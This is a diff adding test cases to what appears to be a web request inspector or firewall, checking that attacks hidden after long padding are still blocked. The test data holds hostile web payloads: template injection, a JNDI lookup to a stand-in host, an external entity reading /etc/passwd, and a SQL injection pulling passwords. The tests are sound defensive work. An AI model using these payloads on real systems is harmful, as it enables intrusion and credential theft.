@@ -79,3 +79,31 @@ describe('a body longer than what was read', () => {
     expect(inspect(post('application/json', '{"items":["' + 'x'.repeat(4000), { bodyTruncated: true }, 'PUT'), { mode: 'strict' })).toEqual({ action: 'pass' });
   });
 });
+
+describe('a payload after padding inside one long value', () => {
+  // Every detector reads a value as far as the engine does (256 KiB); some stopped at 16-64 KiB.
+  it.each([
+    ['a template expression', '{{7*7}}{{config.__class__.__init__.__globals__}}', 20_000],
+    ['a JNDI lookup', '${jndi:ldap://evil.example/a}', 100_000],
+    ['an external entity', '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>', 100_000],
+    ['SQL', "1' union select password from users--", 200_000],
+  ])('%s after %s characters', (_what, payload, pad) => {
+    const body = `note=${'a'.repeat(pad)}+${encodeURIComponent(payload)}`;
+    expect(inspect(post('application/x-www-form-urlencoded', body), { mode: 'loose' })).toMatchObject({ action: 'block' });
+  });
+
+  it('a value longer than 256 KiB with prose in its unread middle: strict refuses, loose records', () => {
+    const prose = 'Le dernier chapitre, celui qu\u2019on attendait, commence ici. '.repeat(6000);
+    const body = JSON.stringify({ title: 'Livre', text: prose });
+    expect(body.length).toBeGreaterThan(300 * 1024);
+    expect(inspect(post('application/json', body), { mode: 'strict' })).toMatchObject({ action: 'block', rule: 'protocol.value_beyond_inspection' });
+    expect(inspect(post('application/json', body), { mode: 'loose' })).toMatchObject({ action: 'record', rule: 'protocol.value_beyond_inspection' });
+  });
+
+  it('a 600 KB base64 image inside JSON passes in strict', () => {
+    const bytes = Buffer.alloc(450 * 1024);
+    for (let i = 0; i < bytes.length; i++) bytes[i] = (i * 2654435761) >>> 24;
+    const body = JSON.stringify({ name: 'photo.jpg', data: bytes.toString('base64') });
+    expect(inspect(post('application/json', body), { mode: 'strict' })).toEqual({ action: 'pass' });
+  });
+});
